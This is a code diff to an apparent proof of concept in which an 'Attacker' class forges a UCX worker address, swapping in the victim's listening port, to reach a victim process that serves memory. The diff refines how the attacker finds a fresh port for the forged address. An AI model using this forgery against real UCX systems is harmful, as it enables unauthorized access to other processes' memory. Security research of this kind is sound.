@@ -44,16 +44,26 @@ void require(ucs_status_t status, const char* what) {
   std::exit(2);
 }
 
-// The port that this process listens on, of the one UCX worker that it has.
-std::uint16_t own_port() {
-  for (int fd = 3; fd < 256; ++fd) {
+constexpr std::uint64_t everything = UCP_FEATURE_AM | UCP_FEATURE_RMA | UCP_FEATURE_AMO64;
+
+// The ports that this process listens on.
+std::vector<std::uint16_t> own_ports() {
+  std::vector<std::uint16_t> ports;
+  for (int fd = 3; fd < 1024; ++fd) {
     int listening = 0;
     socklen_t length = sizeof listening;
     sockaddr_in address{};
     socklen_t address_length = sizeof address;
     if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &length) != 0 || listening == 0) continue;
     if (getsockname(fd, reinterpret_cast<sockaddr*>(&address), &address_length) != 0) continue;
-    if (address.sin_family == AF_INET) return ntohs(address.sin_port);
+    if (address.sin_family == AF_INET) ports.push_back(ntohs(address.sin_port));
+  }
+  return ports;
+}
+
+std::uint16_t new_port(const std::vector<std::uint16_t>& already) {
+  for (const std::uint16_t port : own_ports()) {
+    if (std::ranges::find(already, port) == already.end()) return port;
   }
   std::fprintf(stderr, "UCX does not listen\n");
   std::exit(2);
@@ -83,14 +93,16 @@ struct Worker {
 
 class Attacker {
  public:
-  explicit Attacker(const Victim& victim) : _ucx(UCP_FEATURE_AM | UCP_FEATURE_RMA | UCP_FEATURE_AMO64) {
-    // What a worker's address looks like is public: our own with the victim's port in it is one of the victim.
+  explicit Attacker(const Victim& victim) : _ucx(everything) {
+    // What a worker's address looks like is public: anyone's with the victim's port in it is one of the victim.
+    const auto already = own_ports();
+    const Worker model(everything);
+    const std::uint16_t mine = new_port(already);
     ucp_address_t* address = nullptr;
     std::size_t length = 0;
-    require(ucp_worker_get_address(_ucx.worker, &address, &length), "address");
+    require(ucp_worker_get_address(model.worker, &address, &length), "address");
     std::vector<std::uint8_t> forged(reinterpret_cast<std::uint8_t*>(address),
                                      reinterpret_cast<std::uint8_t*>(address) + length);
-    const std::uint16_t mine = own_port();
     const std::array own{static_cast<std::uint8_t>(mine >> 8), static_cast<std::uint8_t>(mine)};
     for (auto at = std::search(forged.begin(), forged.end(), own.begin(), own.end()); at != forged.end();
          at = std::search(at, forged.end(), own.begin(), own.end())) {
@@ -219,7 +231,7 @@ int serve() {
   std::vector<char> memory = before;
   const Worker ucx(UCP_FEATURE_AM);
   std::printf("%llu %zu %u\n", static_cast<unsigned long long>(reinterpret_cast<std::uintptr_t>(memory.data())),
-              memory.size(), own_port());
+              memory.size(), new_port({}));
   std::fflush(stdout);
   pollfd input{STDIN_FILENO, POLLIN, 0};
   while (poll(&input, 1, 0) == 0) ucp_worker_progress(ucx.worker);
